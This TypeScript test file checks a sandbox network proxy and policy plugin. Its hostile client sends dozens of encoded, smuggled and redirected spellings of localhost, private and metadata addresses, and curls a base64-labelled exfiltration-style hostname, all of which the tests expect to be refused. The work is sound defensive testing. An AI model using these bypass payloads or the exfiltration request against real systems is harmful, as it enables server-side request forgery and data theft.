// The proxy judges the destination it connects to (issue 37). A hostile client inside a real
// sandbox (curl, a raw HTTP and SOCKS client in python3) tries every spelling of this machine's
// own service it can find against a policy that denies 127.0.0.1 and allows some names; each is
// refused and recorded, the service is never reached, and an allowed destination still works.
// Real bubblewrap, the real hooks-policy with its audit log, real servers on loopback.
import { copyFileSync, readFileSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, type Server, createServer } from "node:net";
import { join } from "node:path";
import { AgentHarness } from "@toolhost/core";
import policyPlugin from "@toolhost/hooks-policy";
import { beforeEach, describe, expect, it } from "vitest";
import bashPlugin from "../src/index.js";
import { cleanupsAfterEach, runBash as bash, tempFolder } from "./_helpers.js";

let ws: string;
const cleanups = cleanupsAfterEach();
beforeEach(() => {
  const folder = tempFolder();
  ws = folder.dir;
  cleanups.push(folder.remove);
  copyFileSync(new URL("./_hostile-client.py", import.meta.url), join(ws, "client.py"));
});

/** This machine's own service on 127.0.0.1: it counts every connection it accepts, and answers any. */
async function secretService(): Promise<{ port: number; connections: () => number }> {
  let count = 0;
  const server: Server = createServer((socket) => {
    count += 1;
    socket.end("HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nsecret\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { port: (server.address() as AddressInfo).port, connections: () => count };
}

/** The control: an HTTP server on 127.0.0.2 that the policy allows; `/redirect` sends the client to `to`. */
async function allowedServer(to: () => string): Promise<{ port: number; requests: () => number }> {
  let requests = 0;
  const server = createHttpServer((request, response) => {
    requests += 1;
    if (request.url === "/redirect") {
      response.writeHead(302, { location: to() });
      return void response.end();
    }
    response.end(`hello ${request.url} (Host: ${request.headers.host})\n`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.2", resolve));
  cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { port: (server.address() as AddressInfo).port, requests: () => requests };
}

/** The policy: every command runs, 127.0.0.1 is denied, some names are allowed, the rest allowed by default. */
async function harnessWith(): Promise<{ harness: AgentHarness; audit: string }> {
  const audit = join(ws, "audit.jsonl");
  const harness = new AgentHarness({ cwd: ws, workspace: ws });
  await harness.use(bashPlugin, { sandbox: "required", network: "proxy" });
  await harness.use(policyPlugin, {
    default: "allow",
    audit,
    rules: [
      { tool: "*", host: "127.0.0.1", decision: "deny", reason: "the host's own service" },
      { tool: "*", host: "*.allowed.invalid", decision: "allow" },
      { tool: "*", host: "good.invalid", decision: "allow" },
    ],
  });
  cleanups.push(() => harness.dispose());
  return { harness, audit };
}

type Probe = { name: string; kind: "http"; head: string; then?: string } | { name: string; kind: "socks5"; atyp: 1 | 3 | 4; hostHex: string; port: number; then?: string } | { name: string; kind: "socks4"; host: string; port: number };
type Answer = { name: string; status?: string; body?: string; reply?: number | null; error?: string };

/** Runs the probes with the python client inside the sandbox; one answer each, by name. */
async function probe(harness: AgentHarness, probes: Probe[]): Promise<{ answers: Map<string, Answer>; result: Awaited<ReturnType<typeof bash>> }> {
  writeFileSync(join(ws, "probes.json"), JSON.stringify(probes));
  const result = await bash(harness, "python3 client.py probes.json");
  const answers = new Map<string, Answer>();
  for (const line of result.text.split("\n")) {
    if (!line.startsWith("{")) continue;
    const answer = JSON.parse(line) as Answer;
    answers.set(answer.name, answer);
  }
  expect(answers.size, result.text).toBe(probes.length);
  return { answers, result };
}

const hex = (text: string, encoding: BufferEncoding = "latin1") => Buffer.from(text, encoding).toString("hex");
const ipv6 = (groups: number[]) => Buffer.from(groups.flatMap((group) => [group >> 8, group & 255])).toString("hex");

describe("the proxy judges the destination it connects to", { timeout: 180_000 }, () => {
  it("refuses every spelling of the host's own service a raw client sends, saying why, and the service is never reached", async () => {
    const secret = await secretService();
    const control = await allowedServer(() => "");
    const { harness, audit } = await harnessWith();
    const S = secret.port;
    const connect = (name: string, authority: string): Probe => ({ name, kind: "http", head: `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`, then: "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" });
    const get = (name: string, url: string, host = "x"): Probe => ({ name, kind: "http", head: `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n` });
    const refusedSpellings: Array<[Probe, RegExp]> = [
      [connect("nul", `127.0.0.1\0.allowed.invalid:${S}`), /400 Bad Request/],
      [connect("nul-userinfo", `127.0.0.1\0@good.invalid:${S}`), /400/],
      [connect("userinfo", `127.0.0.1@good.invalid:${S}`), /400/],
      [connect("userinfo-colon", `127.0.0.1:${S}@good.invalid:443`), /400/],
      [connect("percent", `%31%32%37.0.0.1:${S}`), /400/],
      [connect("percent-dot", `127%2e0.0.1:${S}`), /400/],
      [connect("short", `127.1:${S}`), /400/],
      [connect("decimal", `2130706433:${S}`), /400/],
      [connect("hex", `0x7f000001:${S}`), /400/],
      [connect("octal", `0177.0.0.1:${S}`), /400/],
      [connect("trailing-dot-name", `localhost.:${S}`), /400/],
      [connect("trailing-dot-address", `127.0.0.1.:${S}`), /400/],
      [connect("zone", `[fe80::1%25lo]:${S}`), /400/],
      [connect("zone-raw", `[::1%lo]:${S}`), /400/],
      [connect("fullwidth", `１２７.０.０.１:${S}`), /400/],
      [connect("tab", `127.0.0.1\t.good.invalid:${S}`), /400/],
      [connect("empty-label", `127.0.0.1..good.invalid:${S}`), /400/],
      [connect("long-port", `127.0.0.1:0000${S}`), /400/],
      [connect("unspecified", `0.0.0.0:${S}`), /403 Forbidden/],
      [connect("unspecified-v6-mapped", `[::ffff:0.0.0.0]:${S}`), /403/],
      [get("absolute-nul", `http://127.0.0.1\0.allowed.invalid:${S}/`), /400/],
      [get("absolute-userinfo", `http://good.invalid@127.0.0.1:${S}/`), /400/],
      [get("absolute-backslash", `http://good.invalid\\@127.0.0.1:${S}/`), /400/],
      [get("absolute-percent", `http://%31%32%37.0.0.1:${S}/`), /400/],
      [get("host-mismatch", `http://good.invalid:${S}/`, `127.0.0.1:${S}`), /400.*\n?[^]*Host header names 127\.0\.0\.1/],
      [{ name: "two-hosts", kind: "http", head: `GET http://good.invalid/ HTTP/1.1\r\nHost: good.invalid\r\nHost: 127.0.0.1:${S}\r\n\r\n` }, /400/],
      [{ name: "bare-lf-header", kind: "http", head: `GET http://good.invalid/ HTTP/1.1\r\nX-A: 1\nHost: 127.0.0.1:${S}\r\n\r\n` }, /400/],
      [{ name: "folded-header", kind: "http", head: `GET http://good.invalid/ HTTP/1.1\r\nHost: good.invalid\r\n 127.0.0.1\r\n\r\n` }, /400/],
    ];
    const deniedByPolicy: Probe[] = [
      connect("localhost", `localhost:${S}`),
      connect("LOCALHOST", `LOCALHOST:${S}`),
      connect("mapped", `[::ffff:127.0.0.1]:${S}`),
      connect("mapped-hex", `[::ffff:7f00:1]:${S}`),
      connect("mapped-long", `[0:0:0:0:0:ffff:127.0.0.1]:${S}`),
      connect("plain", `127.0.0.1:${S}`),
      get("absolute-localhost", `http://localhost:${S}/`, `localhost:${S}`),
      get("absolute-mapped", `http://[::ffff:7f00:1]:${S}/`, `[::ffff:7f00:1]:${S}`),
    ];
    const socks: Array<[Probe, number]> = [
      [{ name: "socks-nul", kind: "socks5", atyp: 3, hostHex: hex(`127.0.0.1\0.allowed.invalid`), port: S }, 8],
      [{ name: "socks-userinfo", kind: "socks5", atyp: 3, hostHex: hex(`127.0.0.1\0@good.invalid`), port: S }, 8],
      [{ name: "socks-idn", kind: "socks5", atyp: 3, hostHex: hex("bücher.allowed.invalid", "utf8"), port: S }, 8],
      [{ name: "socks-trailing-dot", kind: "socks5", atyp: 3, hostHex: hex("localhost."), port: S }, 8],
      [{ name: "socks-short", kind: "socks5", atyp: 3, hostHex: hex("127.1"), port: S }, 8],
      [{ name: "socks-localhost", kind: "socks5", atyp: 3, hostHex: hex("localhost"), port: S }, 2],
      [{ name: "socks-ipv4", kind: "socks5", atyp: 1, hostHex: "7f000001", port: S }, 2],
      [{ name: "socks-ipv4-any", kind: "socks5", atyp: 1, hostHex: "00000000", port: S }, 2],
      [{ name: "socks-mapped", kind: "socks5", atyp: 4, hostHex: ipv6([0, 0, 0, 0, 0, 0xffff, 0x7f00, 1]), port: S }, 2],
      [{ name: "socks-port-zero", kind: "socks5", atyp: 1, hostHex: "7f000002", port: 0 }, 8],
    ];
    const controls: Probe[] = [
      connect("control-connect", `127.0.0.2:${control.port}`),
      get("control-get", `http://127.0.0.2:${control.port}/get`, `127.0.0.2:${control.port}`),
      { name: "control-socks", kind: "socks5", atyp: 1, hostHex: "7f000002", port: control.port, then: "GET /socks HTTP/1.1\r\nHost: 127.0.0.2\r\nConnection: close\r\n\r\n" },
    ];
    const all = [...refusedSpellings.map(([each]) => each), ...deniedByPolicy, ...socks.map(([each]) => each), { name: "socks4a", kind: "socks4", host: "localhost", port: S } as Probe, ...controls];
    const { answers, result } = await probe(harness, all);

    for (const [each, status] of refusedSpellings) expect(`${answers.get(each.name)?.status}\n${answers.get(each.name)?.body}`, each.name).toMatch(status);
    for (const each of deniedByPolicy) {
      const answer = answers.get(each.name);
      expect(answer?.status, each.name).toBe("HTTP/1.1 403 Forbidden");
      expect(answer?.body, each.name).toContain("the host's own service");
    }
    for (const [each, reply] of socks) expect(answers.get(each.name)?.reply, each.name).toBe(reply);
    expect(answers.get("socks4a")?.reply).toBe(91);
    // The reasons say what is wrong with the spelling.
    expect(answers.get("nul")?.body).toContain("CONNECT host:port: the destination has a NUL byte");
    expect(answers.get("userinfo")?.body).toContain("userinfo");
    expect(answers.get("short")?.body).toContain("write it as four decimal numbers (127.0.0.1)");
    expect(answers.get("zone")?.body).toMatch(/percent-encoding|zone id/);
    expect(answers.get("trailing-dot-name")?.body).toContain("ends with a dot");
    expect(answers.get("unspecified")?.body).toContain("0.0.0.0 and :: name no destination");

    expect(secret.connections()).toBe(0);
    // The controls went through, each to the server the policy allowed.
    expect(answers.get("control-connect")?.body).toContain("hello / (Host: x)");
    expect(answers.get("control-get")?.body).toContain(`hello /get (Host: 127.0.0.2:${control.port})`);
    expect(answers.get("control-socks")?.body).toContain("hello /socks");
    expect(control.requests()).toBe(3);

    // Recorded in the result, each refusal with its reason; the policy's refusals in its audit log too.
    const refused = (result.details.sandbox.connections ?? []).filter((each) => !each.allowed);
    expect(refused.some((each) => each.destination.includes("\\u0000") && each.reason === "CONNECT host:port: the destination has a NUL byte")).toBe(true);
    expect(refused.some((each) => each.destination === `127.0.0.1:${S}` && each.method === "CONNECT")).toBe(true);
    // localhost is this machine wherever it is resolved: refused by its loopback addresses before any lookup.
    expect(refused.some((each) => each.destination === `localhost:${S}` && each.reason?.includes(`CONNECT https://localhost:${S}/ at 127.0.0.1: denied`))).toBe(true);
    const lines = readFileSync(audit, "utf8").trim().split("\n").map((line) => JSON.parse(line) as { decision: string; access?: string[]; reason: string });
    const deniedLines = lines.filter((line) => line.decision === "deny" && line.access !== undefined);
    expect(deniedLines.some((line) => line.access?.includes(`https://localhost:${S}/`))).toBe(true);
    expect(deniedLines.some((line) => line.access?.includes(`https://127.0.0.1:${S}/`) && line.reason.includes("the host's own service"))).toBe(true);
    expect(deniedLines.some((line) => line.access?.includes(`https://[::ffff:7f00:1]:${S}/`) || line.access?.includes(`https://127.0.0.1:${S}/`))).toBe(true);
  });

  it("curl's own spellings and a redirect it follows are judged where they lead", async () => {
    const secret = await secretService();
    const control = await allowedServer(() => `http://localhost:${secret.port}/followed`);
    const { harness } = await harnessWith();
    const S = secret.port;
    const curl = (url: string, extra = "") => `curl -sS -m 20 --noproxy '' ${extra} '${url}'; echo " [exit $?]"`;
    const urls = [
      `http://localhost:${S}/`,
      `http://LocalHost:${S}/`,
      `http://127.1:${S}/`,
      `http://2130706433:${S}/`,
      `http://0x7f.0.0.1:${S}/`,
      `http://[::ffff:127.0.0.1]:${S}/`,
      `http://%31%32%37.0.0.1:${S}/`,
      `http://localhost.:${S}/`,
      `http://good.invalid@127.0.0.1:${S}/`,
      `http://bücher.allowed.invalid:${S}/`,
    ];
    const command = [
      ...urls.map((url) => curl(url)),
      ...urls.slice(0, 6).map((url) => curl(url, '-p -x "$HTTPS_PROXY"')),
      ...urls.slice(0, 6).map((url) => curl(url, '-x "$ALL_PROXY"')),
      curl(`http://127.0.0.2:${control.port}/redirect`, "-L"),
      curl(`http://127.0.0.2:${control.port}/redirect`, '-L -p -x "$HTTPS_PROXY"'),
      curl(`http://127.0.0.2:${control.port}/plain`),
    ].join("\n");
    const result = await bash(harness, command);
    expect(secret.connections(), result.text).toBe(0);
    expect(result.text).toContain(`hello /plain (Host: 127.0.0.2:${control.port})`);
    // The redirect was followed to localhost, and refused there (twice: forwarded and tunnelled).
    expect(control.requests()).toBe(3);
    expect(result.text).toContain(`toolhost's proxy refused the connection to localhost:${S}`);
    const connections = result.details.sandbox.connections ?? [];
    expect(connections.filter((each) => each.allowed).map((each) => each.destination)).toEqual(expect.arrayContaining([`127.0.0.2:${control.port}`]));
    for (const each of connections.filter((entry) => entry.allowed)) expect(each.destination).toBe(`127.0.0.2:${control.port}`);
  });
});

describe("a name that resolves to this machine", { timeout: 180_000 }, () => {
  /**
   * Runs calls in a process of its own whose /etc/hosts is the test's (a bind mount in a mount
   * namespace of its own, made by unshare as root): the proxy there resolves names through it.
   */
  async function withHosts(hosts: string, policy: Record<string, unknown>, commands: string[], nameserver = "10.255.255.53"): Promise<Array<{ text: string; connections: Array<{ destination: string; allowed: boolean; addresses?: string[]; reason?: string }> }>> {
    const { execFile } = await import("node:child_process");
    const hostsFile = join(ws, "hosts");
    writeFileSync(hostsFile, `127.0.0.1 localhost\n::1 localhost ip6-localhost\n${hosts}`);
    const resolvFile = join(ws, "resolv.conf");
    writeFileSync(resolvFile, `nameserver ${nameserver}\noptions timeout:2 attempts:1\n`);
    const input = join(ws, "calls.json");
    writeFileSync(input, JSON.stringify({ workspace: ws, policy, commands }));
    const script = new URL("./_proxied-calls.mjs", import.meta.url).pathname;
    const shell = `mount --bind "$1" /etc/hosts && mount --bind "$2" /etc/resolv.conf && exec "$3" "$4" "$5"`;
    const stdout = await new Promise<string>((resolve, reject) => {
      const args = ["-m", "--propagation", "private", "sh", "-c", shell, "sh", hostsFile, resolvFile, process.execPath, script, input];
      execFile("unshare", args, { timeout: 150_000 }, (error, out, err) => (error ? reject(new Error(`${error.message}\n${err}`)) : resolve(out)));
    });
    return stdout.trim().split("\n").map((line) => JSON.parse(line));
  }

  /** A DNS server on 127.0.0.77:53 that answers every question "no such name" and counts the questions by name. */
  async function countingNameserver(): Promise<(name: string) => number> {
    const { createSocket } = await import("node:dgram");
    const asked = new Map<string, number>();
    const server = createSocket("udp4");
    server.on("message", (message, peer) => {
      const labels: string[] = [];
      let at = 12;
      while (at < message.length && message[at] !== 0) {
        const length = message[at] as number;
        labels.push(message.subarray(at + 1, at + 1 + length).toString("latin1"));
        at += length + 1;
      }
      const name = labels.join(".").toLowerCase();
      asked.set(name, (asked.get(name) ?? 0) + 1);
      const answer = Buffer.from(message.subarray(0, at + 5));
      answer.writeUInt16BE(0x8183, 2); // a response, recursion available, NXDOMAIN
      answer.writeUInt32BE(0, 6); // no answers, no authority
      answer.writeUInt16BE(0, 10);
      server.send(answer, peer.port, peer.address);
    });
    await new Promise<void>((resolve) => server.bind(53, "127.0.0.77", resolve));
    cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())));
    return (name) => asked.get(name) ?? 0;
  }

  it("never looks up a name the policy refuses: the name is judged before a DNS server hears of it", async () => {
    const asked = await countingNameserver();
    const policy = { default: "allow", rules: [{ tool: "*", host: "*.exfil.invalid", decision: "deny", reason: "not for commands" }] };
    const curl = (url: string, extra = "") => `curl -sS -m 20 --noproxy '' ${extra} '${url}'; echo " [exit $?]"`;
    const [call] = await withHosts("", policy, [[curl("http://c2VjcmV0.exfil.invalid/"), curl("http://c2VjcmV0.exfil.invalid/", '-p -x "$HTTPS_PROXY"'), curl("http://c2VjcmV0.exfil.invalid/", '-x "$ALL_PROXY"'), curl("http://looked-up.example.invalid/")].join("\n")], "127.0.0.77");
    expect(call?.text).toContain("toolhost's proxy refused the connection to c2vjcmv0.exfil.invalid:80: Blocked by @toolhost/hooks-policy");
    expect(asked("c2vjcmv0.exfil.invalid"), call?.text).toBe(0);
    // An allowed name is looked up by the proxy (the server says there is no such name, and the call is told so).
    expect(asked("looked-up.example.invalid")).toBeGreaterThan(0);
    expect(call?.text).toContain("toolhost's proxy could not connect to looked-up.example.invalid:80: looked-up.example.invalid could not be looked up");
  });

  it("is judged by the address it resolves to: a hosts-file name for 127.0.0.1 under an allowed name is refused, the allowed one on another address goes through", async () => {
    const secret = await secretService();
    const control = await allowedServer(() => "");
    const S = secret.port;
    const policy = {
      default: "allow",
      rules: [
        { tool: "*", host: "127.0.0.1", decision: "deny", reason: "the host's own service" },
        { tool: "*", host: "*.allowed.invalid", decision: "allow" },
      ],
    };
    const curl = (url: string, extra = "") => `curl -sS -m 20 --noproxy '' ${extra} '${url}'; echo " [exit $?]"`;
    const [call] = await withHosts("127.0.0.1 sneaky.allowed.invalid\n127.0.0.1 xn--bcher-kva.allowed.invalid\n127.0.0.2 control.allowed.invalid\n", policy, [
      [
        curl(`http://sneaky.allowed.invalid:${S}/`),
        curl(`http://SNEAKY.allowed.invalid:${S}/`, '-p -x "$HTTPS_PROXY"'),
        curl(`http://sneaky.allowed.invalid:${S}/`, '-x "$ALL_PROXY"'),
        curl(`http://bücher.allowed.invalid:${S}/`),
        curl(`http://control.allowed.invalid:${control.port}/by-name`),
      ].join("\n"),
    ]);
    expect(secret.connections(), call?.text).toBe(0);
    expect(call?.text).toContain(`hello /by-name (Host: control.allowed.invalid:${control.port})`);
    expect(call?.text).toContain(`toolhost's proxy refused the connection to sneaky.allowed.invalid:${S}: Blocked by @toolhost/hooks-policy: network GET http://sneaky.allowed.invalid:${S}/ at 127.0.0.1: denied by`);
    const refused = call?.connections.filter((each) => !each.allowed).map((each) => [each.destination, each.addresses]);
    expect(refused).toEqual(
      expect.arrayContaining([
        [`sneaky.allowed.invalid:${S}`, ["127.0.0.1"]],
        [`xn--bcher-kva.allowed.invalid:${S}`, ["127.0.0.1"]],
      ]),
    );
    expect(call?.connections.find((each) => each.allowed)).toMatchObject({ destination: `control.allowed.invalid:${control.port}`, addresses: ["127.0.0.2"] });
  });

  it("under recommended, a name for this machine's or a private address is refused by default, and a name whose address a rule of the user's names goes through", async () => {
    const secret = await secretService();
    const control = await allowedServer(() => "");
    const S = secret.port;
    const policy = {
      extends: ["recommended"],
      rules: [
        { tool: "*", command: "*", decision: "allow" },
        { tool: "*", host: "*.allowed.invalid", decision: "allow" },
        { tool: "*", host: "127.0.0.2", decision: "allow", reason: "the test's registry" },
      ],
    };
    const curl = (url: string) => `curl -sS -m 20 --noproxy '' '${url}'; echo " [exit $?]"`;
    const [call] = await withHosts("127.0.0.1 registry.allowed.invalid\n10.255.255.1 intranet.allowed.invalid\n169.254.169.254 metadata.allowed.invalid\n127.0.0.2 mirror.allowed.invalid\n", policy, [
      [curl(`http://registry.allowed.invalid:${S}/`), curl(`http://localhost:${S}/`), curl("http://intranet.allowed.invalid/"), curl("http://metadata.allowed.invalid/latest/meta-data/"), curl(`http://mirror.allowed.invalid:${control.port}/named`)].join("\n"),
    ]);
    expect(secret.connections(), call?.text).toBe(0);
    for (const name of [`registry.allowed.invalid:${S}`, `localhost:${S}`, "intranet.allowed.invalid:80", "metadata.allowed.invalid:80"]) {
      expect(call?.text).toContain(`toolhost's proxy refused the connection to ${name}: Blocked by @toolhost/hooks-policy`);
    }
    expect(call?.text).toContain("it reaches this machine's own services or a private network");
    // The address named in a rule of the user's is reached, by the name that resolved to it.
    expect(call?.text).toContain(`hello /named (Host: mirror.allowed.invalid:${control.port})`);
  });
});
